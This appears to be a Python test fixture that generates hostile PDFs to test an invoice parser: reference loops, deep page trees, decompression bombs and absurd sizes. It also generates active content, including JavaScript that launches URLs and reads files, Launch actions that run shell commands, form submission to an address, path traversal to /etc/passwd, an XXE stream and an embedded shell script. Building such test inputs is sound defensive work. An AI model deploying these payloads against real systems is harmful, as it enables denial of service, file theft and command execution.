"""Hostile PDFs, written object by object: loops, bombs, odd sizes, references to elsewhere, and active content."""

from __future__ import annotations

import zlib
from typing import TYPE_CHECKING

from tests.hostile.file import Aims, Hostile

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
TEXT = b"BT /F 11 Tf 50 780 Td (FAKTURA) Tj 0 -20 Td (Fakturanr. 4711) Tj 0 -20 Td (Fakturadato 12-11-2026) Tj 0 -20 Td (I alt 1.250,00) Tj ET"


def stream(data: bytes, extra: bytes = b"", *, packed: bool = False) -> bytes:
    """A stream object; ``extra`` are further entries of its dictionary."""
    if packed:
        data, extra = zlib.compress(data, 9), extra + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, on top of a catalogue, one page with a little text, and a font."""
    whole = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: PAGE,
        4: stream(TEXT),
        5: FONT,
        **objects,
    }
    return pdf_of(whole, trailer)


def pdf_of(whole: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects alone."""
    data, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, body in sorted(whole.items()):
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size, start = max(whole) + 1, len(data)
    rows = [
        b"%010d 00000 n \n" % places[one] if one in places else b"0000000000 65535 f \n"
        for one in range(size)
    ]
    return data + b"xref\n0 %d\n%strailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, b"".join(rows), size, trailer, start,
    )  # fmt: skip


def pages(count: int, text: bytes = TEXT) -> bytes:
    """A PDF of so many pages, all with the same text."""
    kids = b" ".join(b"%d 0 R" % (10 + one) for one in range(count))
    return pdf(
        {
            2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
            4: stream(text),
            **{10 + one: PAGE for one in range(count)},
        }
    )


def with_page(page: bytes) -> bytes:
    """A PDF whose one page has these entries beside those that it needs."""
    return pdf({3: PAGE[:-2] + page + b">>"})


def shown(content: bytes, **resources: bytes) -> bytes:
    """A PDF whose page has this content."""
    extra = b"".join(b"/%s<<%s>>" % (name.encode(), value) for name, value in resources.items())
    return pdf({3: PAGE[:-4] + extra + b">>>>", 4: stream(content, packed=len(content) > 2000)})


def files(aims: Aims) -> Iterator[Hostile]:
    """Every hostile PDF."""
    from tests.hostile import pdf_objects

    for number, (name, data) in enumerate(
        (*_structure(), *_boxes(), *_contents(), *_elsewhere(aims), *_active(aims), *pdf_objects.all_())
    ):
        yield Hostile(f"{number:03}-{name}.pdf", data)


def bombs() -> Iterator[Hostile]:
    """PDFs that take all the memory they are given; apart from the others, since each takes seconds to do so."""
    drawn = PAGE[:-4] + b"/XObject<</X 6 0 R>>>>>>"
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    inner = {
        6 + one: stream(b"/X Do " * 10, head + b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + one))
        for one in range(9)
    }
    yield Hostile("forms-in-forms.pdf", pdf({3: drawn, 4: stream(b"/X Do"), **inner, 15: stream(TEXT, head)}))
    itself = stream(b"/X Do /X Do", head + b"/Resources<</XObject<</X 6 0 R>>>>")
    yield Hostile("form-in-itself.pdf", pdf({3: drawn, 4: stream(b"/X Do"), 6: itself}))
    from tests.hostile import pdf_objects

    yield from (Hostile(f"{name}.pdf", data) for name, data in pdf_objects.bombs())


def _structure() -> Iterator[tuple[str, bytes]]:
    yield "right", pdf({})
    yield "header-alone", b"%PDF-1.7\n"
    yield "header-late", b"x" * 1000 + pdf({})
    yield "box-of-itself", pdf({3: PAGE.replace(b"[0 0 595 842]", b"6 0 R"), 6: b"6 0 R"})
    yield "parent-of-itself", pdf({2: b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"})
    yield (
        "tree-in-a-ring",
        pdf(
            {
                2: b"<</Type/Pages/Kids[6 0 R]/Count 9>>",
                6: b"<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>",
            }
        ),
    )
    yield (
        "tree-deep",
        pdf(
            {
                2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>",
                **{one: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (one + 1) for one in range(10, 3000)},
            }
        ),
    )
    for count in (b"-1", b"0", b"999999999", b"99999999999999999999", b"2 0 R", b"/x"):
        yield "count", pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % count})
    yield "same-page-often", pdf({2: b"<</Type/Pages/Kids[%s]/Count 5000>>" % (b"3 0 R " * 5000)})
    yield "pages", pages(201)
    yield "many-pages", pages(3000)
    yield "no-catalogue", pdf({1: b"null"})
    yield "catalogue-of-itself", pdf({1: b"1 0 R"})
    yield "nested-arrays", pdf({6: b"[" * 100_000})
    yield "nested-dictionaries", pdf({3: PAGE[:-2] + b"/A<<" * 50_000 + b">>" * 50_000 + b">>"})
    yield (
        "previous-table-of-itself",
        pdf({}, b"/Prev 9").replace(b"/Prev 9", b"/Prev %d" % pdf({}).index(b"xref")),
    )
    yield "object-stream-of-itself", pdf({6: stream(b"6 0 ", b"/Type/ObjStm/N 1/First 4/Extends 6 0 R")})
    yield "length-of-itself", pdf({4: b"<</Length 4 0 R>>\nstream\n" + TEXT + b"\nendstream"})
    yield "length-wrong", pdf({4: stream(TEXT).replace(b"/Length", b"/Length 99999999 /x")})
    yield "encrypted-with-nothing", pdf({}, b"/Encrypt<</Filter/Standard/V 5/R 6/O()/U()/P -1>>")
    yield "encrypted-unknown", pdf({}, b"/Encrypt<</Filter/Own/V 99>>")
    yield "no-table", pdf({}).split(b"xref")[0]
    yield "table-of-zeros", pdf({}).replace(b" 00000 n", b" 00000 f")
    yield "cut", pdf({})[:-200]
    yield (
        "outline-in-a-ring",
        pdf(
            {
                1: b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>",
                6: b"<</First 7 0 R/Last 7 0 R/Count 1>>",
                7: b"<</Title(x)/Parent 6 0 R/Next 7 0 R>>",
            }
        ),
    )
    yield (
        "names-in-a-ring",
        pdf(
            {
                1: b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 6 0 R/JavaScript 6 0 R>>>>",
                6: b"<</Kids[6 0 R 6 0 R]>>",
            }
        ),
    )


def _boxes() -> Iterator[tuple[str, bytes]]:
    for box in (
        b"[0 0 0 0]",
        b"[0 0 -595 -842]",
        b"[0 0 1e30 1e30]",
        b"[0 0 99999999999 99999999999]",
        b"[-1e9 -1e9 1e9 1e9]",
        b"[a b c d]",
        b"[0 0]",
        b"null",
        b"[0 0 .0001 .0001]",
    ):
        yield "box", pdf({3: PAGE.replace(b"[0 0 595 842]", box)})
        yield "crop", with_page(b"/CropBox" + box)
    for turn in (b"45", b"-90", b"99999990", b"1e9", b"3 0 R"):
        yield "turn", with_page(b"/Rotate " + turn)
    yield "unit", with_page(b"/UserUnit 1e30")


def _contents() -> Iterator[tuple[str, bytes]]:
    zeros = bytes(20_000_000)
    yield "bomb", pdf({4: stream(zeros, packed=True)})
    twice = zlib.compress(zlib.compress(zeros, 9), 9)
    yield (
        "bomb-twice",
        pdf(
            {
                4: b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n%s\nendstream"
                % (len(twice), twice)
            }
        ),
    )
    yield "filters", pdf({4: stream(TEXT, b"/Filter[" + b"/ASCIIHexDecode" * 5000 + b"]")})
    yield (
        "predictor",
        pdf(
            {
                4: stream(
                    zlib.compress(b"x" * 1000),
                    b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 99/BitsPerComponent 99>>",
                )
            }
        ),
    )
    yield "contents-of-itself", pdf({3: PAGE.replace(b"4 0 R", b"[3 0 R 3 0 R 4 0 R]")})
    yield "contents-often", pdf({3: PAGE.replace(b"4 0 R", b"[" + b"4 0 R " * 3000 + b"]")})
    yield "saved-states", shown(b"q " * 300_000)
    yield "open-brackets", shown(b"(" * 200_000)
    yield "dictionaries", shown(b"<<" * 200_000)
    yield "paths", shown(b"0 0 m 1 1 l S " * 60_000)
    yield "characters", shown(b"BT /F 1 Tf 1 0 0 1 9 9 Tm " + b"(%s) Tj " % (b"x" * 1000) * 100 + b"ET")
    yield "lines", shown(b"BT /F 1 Tf 9 840 Td " + b"0 -1 Td (Faktura 12,00) Tj " * 4000 + b"ET")
    yield "in-one-place", shown(b"BT /F 9 Tf " + b"1 0 0 1 99 99 Tm (I alt 12,00) Tj " * 3000 + b"ET")
    yield (
        "labels",
        shown(
            b"BT /F 4 Tf 9 840 Td "
            + b"0 -1 Td (Fakturanr. Fakturadato CVR-nr. I alt moms 25% Ordrenr. 45) Tj " * 800
            + b"ET"
        ),
    )
    for size in (b"0", b"-11", b"1e30", b"99999999", b".00001"):
        yield "letters", shown(b"BT /F " + size + b" Tf 50 700 Td (Faktura 4711 I alt 1.250,00) Tj ET")
    for matrix in (
        b"0 0 0 0 0 0",
        b"1e30 0 0 1e30 0 0",
        b".7 .7 -.7 .7 99 99",
        b"-1 0 0 1 400 400",
        b"1 5 0 1 50 50",
        b"1 0 0 1 1e30 -1e30",
    ):
        yield "matrix", shown(matrix + b" cm " + TEXT)
    yield (
        "letters-of-themselves",
        pdf(
            {
                4: stream(b"BT /F 9 Tf 50 700 Td (aaaa) Tj ET"),
                5: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</F 5 0 R>>>>>>",
                6: stream(b"9 0 d0 BT /F 9 Tf (aaaaaaaa) Tj ET"),
            }
        ),
    )
    for image in (
        b"/Width 2147483647/Height 2147483647",
        b"/Width 100000/Height 100000",
        b"/Width -1/Height 0",
        b"/Width 9/Height 9/Filter/JPXDecode",
        b"/Width 9/Height 9/Filter/JBIG2Decode",
        b"/Width 9/Height 9/SMask 6 0 R",
    ):
        yield (
            "image",
            pdf(
                {
                    3: PAGE[:-4] + b"/XObject<</X 6 0 R>>>>>>",
                    4: stream(b"500 0 0 700 0 0 cm /X Do"),
                    6: stream(
                        b"\0" * 99,
                        b"/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceRGB" + image,
                    ),
                }
            ),
        )
    for table in (
        b"1 beginbfrange <0000> <FFFF> <0000> endbfrange",
        b"1 beginbfrange <20> <7E> <0660> endbfrange",
        b"1 beginbfchar <41> <%s> endbfchar" % (b"0041" * 5000),
        b"99999 beginbfchar " * 5000,
        b"1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange",
        b"/x usecmap " * 5000,
    ):
        yield (
            "letters-by-table",
            pdf(
                {
                    5: FONT[:-2] + b"/ToUnicode 6 0 R>>",
                    6: stream(b"/CIDInit /ProcSet findresource begin begincmap " + table + b" endcmap"),
                }
            ),
        )
    yield (
        "font-of-noise",
        pdf(
            {
                5: b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</Type/FontDescriptor/FontFile2 6 0 R/Flags 4>>>>",
                6: stream(bytes(range(256)) * 40),
            }
        ),
    )
    yield (
        "shading",
        shown(
            b"/S sh",
            Shading=b"/S<</ShadingType 1/ColorSpace/DeviceRGB/Function<</FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]>>>>",
        ),
    )
    yield "annotations", with_page(b"/Annots[%s]" % (b"<</Type/Annot/Subtype/Ink/Rect[0 0 99 99]>>" * 5000))
    yield (
        "annotations-of-themselves",
        pdf(
            {
                3: PAGE[:-2] + b"/Annots 6 0 R>>",
                6: b"[6 0 R 3 0 R 7 0 R]",
                7: b"<</Type/Annot/Subtype/Widget/Parent 7 0 R/Kids[7 0 R]/AP<</N 7 0 R>>>>",
            }
        ),
    )
    yield (
        "form-fields",
        pdf(
            {
                1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/XFA 7 0 R/NeedAppearances true>>>>",
                3: PAGE[:-2] + b"/Annots[6 0 R]>>",
                6: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/V(%s)/Rect[0 0 500 500]/DA(/F 9 Tf)/Kids[6 0 R]>>"
                % (b"x" * 50_000),
                7: stream(b"<!DOCTYPE x [<!ENTITY x 'x'>]><x>&x;</x>"),
            }
        ),
    )


def _elsewhere(aims: Aims) -> Iterator[tuple[str, bytes]]:
    file, url = aims.file.encode(), aims.url.encode()
    yield "contents-in-a-file", pdf({4: b"<</Length 0/F(%s)>>\nstream\n\nendstream" % file})
    yield "contents-at-an-address", pdf({4: b"<</Length 0/F<</FS/URL/F(%s)>>>>\nstream\n\nendstream" % url})
    yield (
        "picture-in-a-file",
        pdf(
            {
                3: PAGE[:-4] + b"/XObject<</X 6 0 R>>>>>>",
                4: stream(b"/X Do"),
                6: b"<</Type/XObject/Subtype/Image/Width 1/Height 1/F(%s)/Length 0>>\nstream\n\nendstream"
                % file,
            }
        ),
    )
    yield (
        "picture-of-another",
        pdf(
            {
                3: PAGE[:-4] + b"/XObject<</X 6 0 R>>>>>>",
                4: stream(b"/X Do"),
                6: b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>/Length 0>>\nstream\n\nendstream"
                % file,
            }
        ),
    )
    yield (
        "font-elsewhere",
        pdf(
            {
                5: b"<</Type/Font/Subtype/Type0/BaseFont/%s/Encoding/..#2F..#2Fetc#2Fpasswd/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/x/CIDSystemInfo<</Registry(%s)/Ordering(../../x)/Supplement 0>>>>]>>"
                % (file.replace(b"/", b"#2F"), file)
            }
        ),
    )
    yield (
        "table-elsewhere",
        pdf(
            {
                5: FONT[:-2] + b"/ToUnicode 6 0 R>>",
                6: stream(b"/%s usecmap begincmap endcmap" % file.replace(b"/", b"#2F")),
            }
        ),
    )


def _active(aims: Aims) -> Iterator[tuple[str, bytes]]:
    file, url, owned = aims.file.encode(), aims.url.encode(), aims.folder.encode() + b"/owned"
    script = (
        b"app.launchURL('%s');this.exportDataObject({cName:'x',nLaunch:2});util.readFileIntoStream('%s')"
        % (url, file)
    )
    actions = {
        "script": b"<</S/JavaScript/JS(%s)>>" % script,
        "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd)/P(/c echo x > %s)>>/Unix<</F(touch)/P(%s)>>>>"
        % (owned, owned),
        "address": b"<</S/URI/URI(%s)>>" % url,
        "sending": b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 256>>" % url,
        "going": b"<</S/GoToR/F(%s)/D[0/Fit]>>" % file,
        "embedded": b"<</S/GoToE/T<</R/C/N(x)>>>>",
        "importing": b"<</S/ImportData/F(%s)>>" % file,
        "in-a-ring": b"6 0 R",
    }
    for name, action in actions.items():
        yield (
            f"action-{name}",
            pdf(
                {
                    1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R/WS 6 0 R>>>>",
                    3: PAGE[:-2]
                    + b"/AA<</O 6 0 R>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 6 0 R>>]>>",
                    6: action if name != "in-a-ring" else b"<</S/JavaScript/JS(x)/Next 6 0 R>>",
                }
            ),
        )
    named = b"<</Type/Filespec/F(../../%s)/UF(%s)/EF<</F 7 0 R>>>>" % (owned, owned)
    yield (
        "enclosed",
        pdf(
            {
                1: b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(%s) 6 0 R]>>/JavaScript<</Names[(x)<</S/JavaScript/JS(%s)>>]>>>>>>"
                % (owned, script),
                6: named,
                7: stream(b"#!/bin/sh\ntouch owned\n", b"/Type/EmbeddedFile"),
            }
        ),
    )
